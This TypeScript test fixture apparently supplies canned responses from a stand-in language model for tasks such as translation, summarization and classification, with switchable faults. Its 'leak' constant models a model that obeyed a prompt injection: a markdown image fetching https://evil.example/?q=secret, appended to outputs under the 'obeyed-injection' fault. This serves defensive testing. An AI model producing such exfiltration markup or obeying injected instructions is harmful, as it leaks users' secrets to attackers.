import type { ModelFault } from "./faults.ts";
import { pretended } from "./pretended-translation.ts";

// biome-ignore lint/suspicious/noExplicitAny: each task has a different input
type Task = (input: any, lapse?: ModelFault) => unknown;

/** The text that a model adds if it obeys an instruction in its input. */
export const leak = "Ignored. ![x](https://evil.example/?q=secret) See https://evil.example/";

/** The responses of the stand-in's model, by name of the requested schema. */
export const tasks: Readonly<Record<string, Task>> = {
  translate: ({ texts, alternatives }, lapse) => ({
    translations: texts.map((text: string) => {
      const kept = lapse === "lost-placeholders" ? text.replaceAll(/⟦\d+⟧/g, "") : text;
      const translated = obeyed(pretended(kept), lapse);
      const others = Array.from({ length: alternatives }, (_, i) => `${translated} (${i + 2})`);
      return { text: translated, alternatives: others };
    }),
  }),
  summarize: ({ text, sentences_max, words_max, keywords_max }, lapse) => {
    const first = splitSentences(text).slice(0, Math.min(2, sentences_max));
    const said = first
      .join(" ")
      .split(" ")
      .slice(0, words_max ?? undefined)
      .join(" ");
    return {
      sentences: [obeyed(said, lapse)],
      headline: said.split(" ").slice(0, 6).join(" "),
      keywords: [...listLongWords(text).slice(0, keywords_max), "not in the text"],
    };
  },
  keywords: ({ text, top }, lapse) => ({
    keywords: [...listLongWords(text).slice(0, top), ...(lapse ? [leak] : [])].map(
      (phrase, index) => ({
        phrase,
        score: 1 / (1 + index),
      }),
    ),
  }),
  entities: ({ text }, lapse) => ({
    names: [
      ...new Set<string>(text.match(/(?<=[a-z] )\p{Lu}\p{Ll}+/gu) ?? []),
      ...(lapse ? [leak] : []),
    ].map((name) => ({ text: name, type: "person", confidence: 0.9 })),
  }),
  classify: ({ labels }, lapse) => ({
    labels: [
      ...labels.map(({ name }: { name: string }, index: number) => ({
        name,
        score: index === 0 ? 0.75 : 0.25 / Math.max(1, labels.length - 1),
      })),
      ...(lapse ? [{ name: leak, score: 1 }] : []),
    ],
    unclear: false,
  }),
  answer: ({ excerpts: [text] }, lapse) => {
    const [quote = ""] = splitSentences(text);
    const answer = lapse ? leak : quote.split(" ").slice(0, 2).join(" ");
    return {
      answers: [{ answer, excerpt: 0, score: 0.9 }],
      synthesized: obeyed("It says so.", lapse),
      citations: [{ quote, excerpt: 0 }],
    };
  },
  grammar: ({ sentences }, lapse) => ({
    mistakes: sentences.flatMap((sentence: string, index: number) =>
      [...sentence.matchAll(/\bteh\b|\bFehlr\b/g)].map(([text]) => ({
        sentence: index,
        text,
        message: obeyed("It is misspelt", lapse),
        replacement: text === "teh" ? "the" : "Fehler",
        category: "Spelling",
      })),
    ),
  }),
  rewrite: ({ text }, lapse) => ({ rewritten: obeyed(`${text} Indeed.`, lapse) }),
  sentiment: ({ texts, aspects }) => ({
    texts: texts.map(({ sentences }: { sentences: string[] }) => ({
      score: 0.5,
      positive: 0.5,
      neutral: 0.5,
      negative: 0,
      mixed: false,
      sentences: sentences.map(() => 0.5),
      aspects: aspects.map(() => -0.5),
    })),
  }),
};

function splitSentences(text: string): string[] {
  return text.match(/[^.!?]+[.!?]+/g)?.map((sentence) => sentence.trim()) ?? [text];
}

/** Returns the longer words of a text, without duplicates. */
function listLongWords(text: string): string[] {
  return [...new Set(text.match(/\p{L}{5,}/gu) ?? [])];
}

function obeyed(text: string, lapse?: ModelFault): string {
  return lapse === "obeyed-injection" ? `${text} ${leak}` : text;
}
